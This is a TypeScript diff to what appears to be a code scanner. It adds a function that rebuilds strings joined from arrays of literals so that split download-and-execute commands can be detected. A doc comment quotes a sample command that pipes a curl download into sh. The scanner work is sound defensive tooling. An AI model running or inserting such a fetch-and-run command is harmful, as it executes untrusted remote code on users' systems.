@@ -133,6 +133,20 @@ function downloadedAndRun(lines: readonly string[], facts: CodeFacts, powershell
   }
 }
 
+/** An array of string literals over one or more lines, joined where it is written (`["u=https://host/x.sh;", "(curl \"$u\" | sh) ||"].join(" ")`). */
+const JOINED_ARRAY = /\[\s*((?:(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')\s*,?\s*)+)\]\s*\.join\s*(?:\(\s*(?:"([^"\n]{0,8})"|'([^'\n]{0,8})')?\s*\))?/g;
+
+/** The strings a program builds by joining an array of literals, with the line the array starts on. */
+export function joinedStringArrays(text: string): { text: string; line: number }[] {
+  const out: { text: string; line: number }[] = [];
+  for (const match of text.matchAll(JOINED_ARRAY)) {
+    const pieces = [...match[1]!.matchAll(STRING)].map((literal) => unquote(literal[0]));
+    if (pieces.length < 2) continue;
+    out.push({ text: pieces.join(match[2] ?? match[3] ?? ''), line: 1 + (text.slice(0, match.index).match(/\n/g)?.length ?? 0) });
+  }
+  return out;
+}
+
 /** Extracts the facts of one file read lexically. */
 export function lexicalFacts(file: SourceFile): CodeFacts {
   const facts: CodeFacts = {
@@ -200,6 +214,7 @@ export function lexicalFacts(file: SourceFile): CodeFacts {
     const imported = /^\s*(?:require(?:_relative)?|import|use|using|#include|load)\s*\(?\s*["'<]?([\w./:-]+)/.exec(raw)?.[1];
     if (imported) facts.imports.push(imported);
   }
+  for (const joined of joinedStringArrays(file.text)) facts.strings.push(joined);
   if (DOWNLOAD.test(file.text)) downloadedAndRun(lines, facts, /\.ps[dm]?1$/i.test(file.path));
   return facts;
 }
